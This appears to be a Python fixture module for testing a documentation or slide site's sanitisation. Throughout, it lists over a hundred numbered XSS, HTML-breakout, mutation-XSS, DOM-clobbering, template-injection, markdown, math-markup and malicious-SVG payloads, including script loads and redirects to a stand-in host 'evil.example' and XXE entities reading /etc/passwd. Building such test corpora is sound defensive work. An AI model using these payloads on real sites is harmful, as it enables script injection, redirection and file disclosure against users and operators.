"""Payloads: texts that would run code, load something or lead away if any part of the site let them.

Each has a number. If it runs, it calls `pwned(number)`; its addresses lead to `https://evil.example/number`.
"""

from typing import NamedTuple

HOST = "evil.example"


class Payload(NamedTuple):
    """A text that a stranger may write into any field."""

    number: int
    text: str

    @property
    def address(self) -> str:
        """An address that a field for addresses accepts, with as much of the text as it may hold."""
        tail = "".join(self.text.split()).replace("\\", "")
        return f"https://{HOST}/{self.number}?{tail}"


# "§" stands for the number of the payload.
_MARKUP = [
    # Elements that run, load or send something.
    "<script>pwned(§)</script>",
    "<ScRiPt\n>pwned(§)</sCrIpT\n>",
    '<script src="//evil.example/§.js"></script>',
    '<script type="module">pwned(§)</script>',
    '<script type="text/javascript" src="data:text/javascript,pwned(§)"></script>',
    "<img src=x onerror=pwned(§)>",
    "<img/src=x/onerror=pwned(§)//",
    '<img src="//evil.example/§.png" srcset="//evil.example/§.png 2x">',
    "<svg onload=pwned(§)>",
    "<svg><script>pwned(§)</script></svg>",
    "<svg><script href=data:text/javascript,pwned(§) /></svg>",
    '<svg><a xlink:href="javascript:pwned(§)"><text y="9">x</text></a></svg>',
    '<svg><animate onbegin=pwned(§) attributeName=x dur=1s /></svg>',
    '<svg><a><set attributeName="href" to="javascript:pwned(§)"/><text y="9">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwned(§)>#x"/></svg>',
    "<svg><foreignObject><iframe onload=pwned(§)></iframe></foreignObject></svg>",
    "<svg><image href=//evil.example/§.png onerror=pwned(§) /></svg>",
    "<body onload=pwned(§) onpageshow=pwned(§)>",
    "<iframe src=javascript:parent.pwned(§)></iframe>",
    '<iframe srcdoc="<script>parent.pwned(§)</script>"></iframe>',
    '<object data="data:text/html,<script>pwned(§)</script>"></object><embed src=//evil.example/§>',
    '<video src=x onerror=pwned(§)><source onerror=pwned(§)></video><audio src=x onerror=pwned(§)></audio>',
    "<details open ontoggle=pwned(§)><summary>x</summary></details>",
    "<input autofocus onfocus=pwned(§)><select autofocus onfocus=pwned(§)><textarea autofocus onfocus=pwned(§)>",
    "<marquee onstart=pwned(§)>x</marquee><x-y onanimationstart=pwned(§) style=animation:x>",
    '<form action="//evil.example/§" id=f><input name=q><button formaction=javascript:pwned(§)>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/§">',
    '<base href="https://evil.example/§/">',
    '<link rel="stylesheet" href="//evil.example/§.css"><link rel=import href=//evil.example/§>',
    "<style>@import '//evil.example/§.css'; * { background: url(//evil.example/§.png) }</style>",
    '<p style="background: url(//evil.example/§.png); behavior: url(#default#time2)">x</p>',
    '<table background="//evil.example/§.png"><td background="//evil.example/§.png">',
    "<template><script>pwned(§)</script></template><slot name=x onslotchange=pwned(§)></slot>",
    # Ways out of the places where text is printed.
    '"><script>pwned(§)</script>',
    "'><script>pwned(§)</script>",
    '" onmouseover="pwned(§)" onfocus="pwned(§)" autofocus tabindex="0" x="',
    "' onmouseover='pwned(§)' onload='pwned(§)' x='",
    "` onmouseover=pwned(§) x=`",
    "x onmouseover=pwned(§) autofocus onfocus=pwned(§)",
    "</script><script>pwned(§)</script>",
    '";pwned(§);"',
    "';pwned(§);'",
    "\\';pwned(§);//",
    '\\";pwned(§);//',
    "`${pwned(§)}`",
    "*/pwned(§);/*",
    "</title><script>pwned(§)</script>",
    "</textarea><script>pwned(§)</script>",
    "</style><script>pwned(§)</script>",
    "</noscript><script>pwned(§)</script>",
    "</template></select></svg></math><script>pwned(§)</script>",
    "--><script>pwned(§)</script>",
    "--!><script>pwned(§)</script>",
    "]]><script>pwned(§)</script><![CDATA[",
    "<!--<script>pwned(§)//-->",
    "<!-- <script> pwned(§)",
    "<![CDATA[<script>pwned(§)</script>]]>",
    "<?xml-stylesheet href='javascript:pwned(§)'?><!DOCTYPE x [<!ENTITY y 'pwned(§)'>]>&y;",
    "&lt;script&gt;pwned(§)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=pwned(§)&amp;gt;",
    "&#60;img src=x onerror=pwned(§)&#62;",
    "\\u003cimg src=x onerror=pwned(§)\\u003e \\x3cscript\\x3epwned(§)\\x3c/script\\x3e",
    "%3Cscript%3Epwned(§)%3C/script%3E",
    "＜script＞pwned(§)＜/script＞",
    # What changes its meaning when it is parsed a second time.
    '<noscript><p title="</noscript><img src=x onerror=pwned(§)>">',
    '<svg></p><style><a id="</style><img src=x onerror=pwned(§)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwned(§)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned(§)>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned(§)></style></annotation-xml></math>',
    "<math><a xlink:href=javascript:pwned(§)>x</a><maction actiontype=statusline#http://evil.example/§>x</maction>",
    "<select><style><!--</style><a title=\"--><img src=x onerror=pwned(§)>\"></select>",
    "<svg><desc><![CDATA[</desc><script>pwned(§)</script>]]></svg>",
    "<xmp><p title=\"</xmp><img src=x onerror=pwned(§)>\">",
    "<plaintext><img src=x onerror=pwned(§)>",
    # What scripts of the theme, of the slide engine and of ours look for.
    '<div id="__config">{"base": "//evil.example/§", "features": ["navigation.instant"]}</div>',
    "<a id=siteBuilder></a><a id=siteBuilder name=sizes href=//evil.example/§>x</a><img name=siteBuilderInline>",
    "<img name=getElementById><form name=body><input name=attributes></form><a id=Reveal href=//evil.example/§>",
    '<section data-background-iframe="https://evil.example/§" data-background-image="//evil.example/§.png">x</section>',
    '<a data-preview-link="https://evil.example/§" href="https://evil.example/§">x</a>',
    '<section data-markdown="https://evil.example/§.md"><script type="text/template"><img src=x onerror=pwned(§)></script>',
    '<a data-video="x?autoplay=1&x=//evil.example/§" data-seconds="1" href="#">x</a><img data-src="//evil.example/§.png">',
    '<a title="<img src=x onerror=pwned(§)>" href="#">x</a><abbr title="<script>pwned(§)</script>">y</abbr>',
    '<pre class="mermaid"><code>graph LR; a-->b; click a call pwned(§)</code></pre>',
    '<div data-md-component="announce" data-md-url="//evil.example/§">x</div><form data-filters hidden></form>',
    '<aside class="notes" data-markdown><img src=x onerror=pwned(§)></aside>',
    # The marks by which pages are hung in frames.
    "\ue000content\ue001 \ue000title\ue001 \ue000policy\ue001 \ue000other\ue001 pwned(§)",
    "%EE%80%80content%EE%80%81 %EE%80%80policy%EE%80%81 pwned(§)",
    "&#xe000;content&#xe001; \" \ue000toc\ue001 onmouseover=pwned(§)",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0\x03 &#2;wzxhzdk:0&#3; pwned(§)",
    # Templates.
    "{{7*7}}{{config}}{{ ''.__class__.__mro__ }} {% include 'main.html' %}{# pwned(§) #}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('pwned(§)')()}} {{!pwned(§)}}",
    # What ends a line, changes a direction, or is long.
    "a\u2028pwned(§)\u2029b\u0085c",
    "\u202e\u2066<script>pwned(§)</script>\u2069\u202c",
    "\\0\\x00\\u0000\x00<scr\x00ipt>pwned(§)</script>",
    "<b " * 400 + "onmouseover=pwned(§)>" + "x" * 4000,
]  # fmt: skip
_MARKDOWN = [
    "[x](javascript:pwned(§))",
    "[x](JaVaScRiPt:pwned(§)) [y](<java\tscript:pwned(§)>) [z](\x01javascript:pwned(§))",
    "[x](javascript&colon;pwned(§)) [y](java&Tab;script:pwned(§)) [z](&#106;avascript:pwned(§))",
    "[a <https://evil.example/§> b](javascript:pwned(§))",
    "[a ![b](/images/x.png) c](vbscript:pwned(§)) [[yeast|a <javascript:pwned(§)> b]]",
    "[x](//evil.example/§) [y](/\\evil.example/§) [z](\\\\\\\\evil.example/§) [w](&#x2f;/evil.example/§)",
    "[x](file:///etc/passwd) [y](data:text/html,<script>pwned(§)</script>) [z](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/§.png) ![y](//evil.example/§.png) ![z](/images/x.png\"onerror=\"pwned(§))",
    "![x\" onerror=\"pwned(§)](/images/x.png \"t' onload='pwned(§)\")",
    "<javascript:pwned(§)> <data:text/html,pwned(§)> <https://evil.example/§\"onclick=\"pwned(§)>",
    "[x][r]\n\n[r]: javascript:pwned(§) \"x\"",
    "[r]: <//evil.example/§> '\"><script>pwned(§)</script>'\n\n[r] ![r]",
    "[x](https://evil.example/§ \"<img src=x onerror=pwned(§)>\") [y](https://evil.example/§ '\" onclick=\"pwned(§)')",
    "a[^1\" onclick=\"pwned(§)] b[^1]\n\n[^1]: <script>pwned(§)</script>\n[^1\" onclick=\"pwned(§)]: x",
    "| <script>pwned(§)</script> | [x](javascript:pwned(§)) |\n|:--\"onclick=pwned(§)|---|\n| <img src=x onerror=pwned(§)> | b |",
    "```\"><script>pwned(§)</script>\n<script>pwned(§)</script>\n```",
    "```html onclick=\"pwned(§)\" {.mermaid #__config onclick=\"pwned(§)\"}\n</code></pre><script>pwned(§)</script>\n```",
    "```mermaid\ngraph LR; a-->b\nclick a \"javascript:pwned(§)\"\n```",
    "# x {#__config onclick=\"pwned(§)\"} <script>pwned(§)</script>\n\n## [y](javascript:pwned(§))",
    "x{onclick=\"pwned(§)\" style=\"background:url(//evil.example/§)\"} *y*{: onmouseover=\"pwned(§)\" }",
    "<div markdown onclick=\"pwned(§)\">\n[x](javascript:pwned(§)) <script>pwned(§)</script>\n</div>",
    "*[HTML]: \"><img src=x onerror=pwned(§)>\n\nHTML",
    "!!! note\" onclick=\"pwned(§) \"<img src=x onerror=pwned(§)>\"\n    <script>pwned(§)</script>",
    "> [!NOTE]\n> <script>pwned(§)</script>\n\n=== \"<img src=x onerror=pwned(§)>\"\n\n    x",
    "[[yeast\"><script>pwned(§)</script>]] [[|<img src=x onerror=pwned(§)>]] [[yeast|\"><svg onload=pwned(§)>]]",
    "(12:05) (1:00 to 2:00\" onclick=\"pwned(§)) https://evil.example/§\"onclick=\"pwned(§)",
]  # fmt: skip
_FORMULAS = [
    r"$\text{<script>pwned(§)</script>}$ $\mbox{<img src=x onerror=pwned(§)>}$",
    r"$\text{<script/src=&quot;//evil.example/§.js&quot;></script>}$",
    r"$\href{javascript:pwned(§)}{x}$ $\href{//evil.example/§}{y}$ $\url{javascript:pwned(§)}$",
    r'$\style{background:url(//evil.example/§)}{x}$ $\class{a" onclick="pwned(§)}{y}$ $\cssId{__config}{z}$',
    r"$\unicode{x3c}img src=x onerror=pwned(§)\unicode{x3e}$ $\htmlData{onclick=pwned(§)}{x}$ $\data{a=b}{x}$",
    r"$\color{red\" onclick=\"pwned(§)}x$ $\textcolor{\"><img src=x onerror=pwned(§)>}{y}$",
    r'$\hspace{1em" onmouseover="pwned(§)}x$ $\operatorname{<svg onload=pwned(§)>}$ $\mathrm{&lt;img src=x&gt;}$',
    '$$\n\\begin{array}{c" onclick="pwned(§)}<iframe src=javascript:pwned(§)> & x\\end{array}\n$$ (<b onclick=pwned(§)>)',
    r"$\mathchoice{<form>}{<base href=//evil.example/§>}{<meta http-equiv=refresh content=0;//evil.example/§>}{x}$",
    r"$</math><script>pwned(§)</script>$ $<annotation-xml encoding=text/html><img src=x onerror=pwned(§)>$",
]
PAYLOADS = [
    Payload(number, text.replace("§", str(number)))
    for number, text in enumerate([*_MARKUP, *_MARKDOWN, *_FORMULAS], 1)
]

_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"'
)
# Whole SVG files. Their numbers go on where those of the texts end.
_PICTURES = [
    _SVG + ' onload="pwned(§)"/>',
    _SVG + "><script>pwned(§)</script></svg>",
    _SVG + '><script xlink:href="data:text/javascript,pwned(§)"/></svg>',
    _SVG + '><h:script xmlns:h="http://www.w3.org/1999/xhtml">pwned(§)</h:script></svg>',
    _SVG + '><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="pwned(§)"/></svg>',
    _SVG + '><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.pwned(§)"/></foreignObject></svg>',
    _SVG + '><animate onbegin="pwned(§)" attributeName="x" dur="1s"/></svg>',
    _SVG + '><set attributeName="onmouseover" to="pwned(§)"/></svg>',
    _SVG + '><a id="a"><animate attributeName="xlink:href" values="javascript:pwned(§)"/><text y="9">x</text></a></svg>',
    _SVG + '><a xlink:href="java&#x0A;script:pwned(§)"><rect width="9" height="9"/></a></svg>',
    _SVG + '><image xlink:href="https://evil.example/§.png" onerror="pwned(§)"/></svg>',
    _SVG + '><use xlink:href="//evil.example/§.svg#x"/></svg>',
    _SVG + '><style>@import "//evil.example/§.css"; * { fill: url(https://evil.example/§.svg#x) }</style></svg>',
    _SVG + '><style>* { background: \\75rl(//evil.example/§.png); cursor: u\\rl(//evil.example/§) }</style></svg>',
    _SVG + ' style="background: image-set(\'//evil.example/§.png\' 1x)"/>',
    _SVG + '><filter id="f"><feImage href="https://evil.example/§.png"/></filter><rect filter="url(#f)"/></svg>',
    _SVG + '><handler xmlns="http://www.w3.org/2001/xml-events" type="text/javascript">pwned(§)</handler></svg>',
    '<?xml-stylesheet type="text/xsl" href="data:text/xml,§"?>' + _SVG + "><g/></svg>",
    f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "pwned(§)">]>{_SVG}><g/></svg>',
    f'<!DOCTYPE svg [<!ENTITY x "&#60;script>pwned(§)&#60;/script>">]>{_SVG}>&x;</svg>',
    f'<!DOCTYPE svg SYSTEM "https://evil.example/§.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>{_SVG}><text>&x;</text></svg>',
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>pwned(§)</script></html>',
    "<html><script>pwned(§)</script></html>",
    '<?xml version="1.0" encoding="UTF-7"?>' + _SVG + ">+ADw-script+AD4-pwned(§)+ADw-/script+AD4-</svg>",
    _SVG + '><metadata><x:script xmlns:x="http://www.w3.org/2000/svg">pwned(§)</x:script></metadata></svg>',
    _SVG + '><listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="data:,pwned(§)"/></svg>',
]  # fmt: skip
PICTURES = [
    Payload(number, text.replace("§", str(number)))
    for number, text in enumerate(_PICTURES, len(PAYLOADS) + 1)
]
